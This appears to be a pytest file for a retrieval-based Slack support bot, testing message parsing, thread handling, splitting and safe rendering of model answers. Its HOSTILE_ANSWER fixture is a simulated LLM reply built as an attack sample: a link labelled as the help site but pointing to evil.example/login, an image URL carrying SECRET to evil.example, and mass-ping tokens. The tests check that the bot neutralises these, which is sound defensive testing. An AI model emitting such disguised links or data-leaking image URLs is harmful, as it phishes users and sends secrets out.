    "is_share": True, "is_msg_unfurl": True, "ts": "1709990000.000100", "channel_id": "C0GEN",
    "author_id": "U0BOB", "author_subname": "bob", "mrkdwn_in": ["text"],
    "fallback": "[March 9th, 2024 12:53 PM] bob: How long is the password reset link valid?",
    "text": "", "footer": "Posted in #general",
    "message_blocks": [{"team": ACME, "channel": "C0GEN", "ts": "1709990000.000100",
                        "message": {"blocks": _RICH_QUESTION}}],
}  # fmt: skip


@pytest.mark.parametrize(
    ("fields", "question"),
    [
        # words only in rich_text blocks; text empty or only a fallback
        ({"text": "", "blocks": _RICH_QUESTION},
         "How long is the password reset link valid? :pray:"),
        ({"text": "This message contains interactive elements.", "blocks": _RICH_QUESTION},
         "How long is the password reset link valid? :pray:"),
        # a message forwarded into the DM
        ({"text": "", "attachments": [_FORWARD]},
         "How long is the password reset link valid? :pray:"),
    ],
)  # fmt: skip
async def test_a_dm_whose_words_are_not_in_text_gets_a_retrieved_answer(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App, fields: dict[str, Any], question: str
):
    ts = _fresh_ts()
    body = message("", channel="D0RICH", channel_type="im", ts=ts)
    body["event"].update(copy.deepcopy(fields))

    await http_bot.post(body)

    [update] = await answered(slack)
    assert "password-and-sso.md" in update.args["text"]
    assert "What would you like to know?" not in update.args["text"]
    await _eventually(lambda: _stored(kb_app, ts) is not None)
    row = _stored(kb_app, ts)
    assert row is not None and row.question == question


async def test_a_thread_broadcast_is_a_reply_in_its_thread(
    http_bot: HttpBot, slack: SlackSimulator
):
    question = slack.seed_message("C0SUP", "U222", f"<@{BOT_USER}> How do I request a refund?")
    await http_bot.post(mention("How do I request a refund?", ts=question["ts"], channel="C0SUP"))
    await answered(slack)
    ts = _fresh_ts()

    await http_bot.post(
        message("and how long does it take?", channel="C0SUP", channel_type="channel", ts=ts,
                thread_ts=question["ts"], subtype="thread_broadcast")
    )  # fmt: skip

    await answered(slack, count=2)
    placeholders = slack.calls_to("chat.postMessage")
    assert [p.args["thread_ts"] for p in placeholders] == [question["ts"]] * 2


# --- what goes out: rendered safely, split within Slack's limits, unfurling off ------------------

HOSTILE_TEAM = "T555"
SHARED_CASES = REPO.parent / "shared" / "cases"
HOSTILE_ANSWER = (
    "Reset it here: [https://help.acme.example/reset](https://evil.example/login) [1] "
    "![x](https://evil.example/p.png?q=SECRET)\n\n"
    "Ping <!channel> <!here> @everyone @here <@U12345> <!subteam^S1|@team> "
    "<@&123456789012345678>. Visit <https://evil.example|the official refund page> and "
    "https://evil.example/bare [2].\n\n```\n# keep **this** <!channel>\n```"
)


@pytest.fixture(scope="module")
def hostile_workspace(kb_app: App) -> str:
    """A team whose knowledge holds the shared hostile documents (titles and URLs that try to
    close links and ping channels)."""
    kb = kb_app.knowledge
    kb.create_workspace("hostile", [(IdentityKind.SLACK_TEAM, HOSTILE_TEAM)])
    for case in ("masked-links", "source-url-pings-channel"):
        kb.ingest_jsonl("hostile", SHARED_CASES / "security" / case / "kb.jsonl")
    return "hostile"


def _assert_sent_safely(call: Any) -> list[str]:
    """Unfurling off, every text and section free of pings and of links to anywhere but the
    answer's sources; returns the section texts."""
    from tests.chat_checks import bare_addresses, fences_balanced, live_links, pings

    args = call.args
    assert args.get("unfurl_links") is False and args.get("unfurl_media") is False, args
    sections = [b["text"]["text"] for b in args.get("blocks") or [] if b["type"] == "section"]
    for text in [args["text"], *sections]:
        assert pings(text, "slack") == [], text
        assert bare_addresses(text, "slack") == [], text
        assert all(u.startswith("https://help.acme.example/") for u, _ in live_links(text, "slack"))
        assert "evil.example" not in " ".join(u for u, _ in live_links(text, "slack"))
        assert fences_balanced(text)
    assert all(len(s) <= 3_000 for s in sections)
    assert all(b["text"].get("verbatim") is True for b in args.get("blocks") or [] if "text" in b)
    return sections


async def test_a_hostile_answer_goes_out_escaped_without_pings_links_or_unfurls(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator, hostile_workspace: str
):
    llm.responder = lambda messages: HOSTILE_ANSWER

    await http_bot.post(mention("Where do I reset my password?", team=HOSTILE_TEAM))

    [update] = await answered(slack)
    [placeholder] = slack.calls_to("chat.postMessage")
    assert placeholder.args["unfurl_links"] is False and placeholder.args["unfurl_media"] is False
    [section] = _assert_sent_safely(update)
    assert "```\n# keep **this** &lt;!channel&gt;\n```" in section  # code as written
    assert "![" not in section  # the image is its alt text only; its URL is not fetched
    assert "<https://evil" not in section and "|https://help.acme.example/reset>" not in section


async def test_a_long_fenced_answer_is_one_message_of_balanced_valid_sections(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
):
    answer = (SHARED_CASES / "long-fenced-answer" / "answer.md").read_text(encoding="utf-8")
    llm.responder = lambda messages: answer

    await http_bot.post(mention("What does the full agent configuration look like?"))

    [update] = await answered(slack)
    sections = _assert_sent_safely(update)
    assert len(sections) == 2 and min(map(len, sections)) > 0.8 * max(map(len, sections))
    assert sections[1].startswith("```\nsetting_")
    shown = [line for s in sections for line in s.split("\n") if line.startswith("setting_")]
    assert shown == [line for line in answer.split("\n") if line.startswith("setting_")]
    assert update.args["blocks"][-1]["type"] == "context_actions"


async def test_a_very_long_answer_spans_messages_within_slacks_limits(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator, kb_app: App
):
    fence = "\n".join(f"key_{n:03d}: value   # 설명 {n} 👍🏽" for n in range(120))
    answer = "\n\n".join(f"Part {n} [1]:\n\n```yaml\n{fence}\n```" for n in range(8))
    llm.responder = lambda messages: answer
    question_ts = "1700007000.000100"

    await http_bot.post(mention("Show me every configuration", ts=question_ts))

    [update] = await answered(slack)
    await slack.async_wait_for("chat.postMessage", count=3, timeout=20)
    await asyncio.sleep(0.5)
    follow_ups = slack.calls_to("chat.postMessage")[1:]  # after the placeholder
    messages = [update, *follow_ups]
    sections = [s for call in messages for s in _assert_sent_safely(call)]
    assert len(messages) >= 3 and all(
        sum(len(b["text"]["text"]) for b in c.args["blocks"] if "text" in b) <= 12_000
        and len(c.args["blocks"]) <= 50
        for c in messages
    )
    assert all(s.startswith(("Part", "```yaml\n", "```\n")) for s in sections)
    assert sum(s.count("key_000:") for s in sections) == 8
    assert [c.args["blocks"][-1]["type"] for c in messages][-1] == "context_actions"
    assert all(c.args["blocks"][-1]["type"] == "section" for c in messages[:-1])
    assert all(c.args["thread_ts"] == question_ts for c in follow_ups)


async def test_setup_notice_placeholder_and_apology_go_out_with_unfurling_off(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
):
    await http_bot.post(mention("How do refunds work?", team="T334"))  # no knowledge: setup
    await slack.async_wait_for("chat.postMessage", count=1, timeout=10)
    llm.fail_next(3, status=500)
    await http_bot.post(mention("What is the API rate limit?"))  # the apology
    [apology] = await answered(slack)

    calls = slack.calls_to("chat.postMessage") + slack.calls_to("chat.update")
    assert len(calls) == 3
    for call in calls:
        assert call.args["unfurl_links"] is False and call.args["unfurl_media"] is False
    assert "`supportbot workspace create`" in calls[0].args["text"]
    assert apology.args["text"].startswith("Sorry, I couldn't answer")
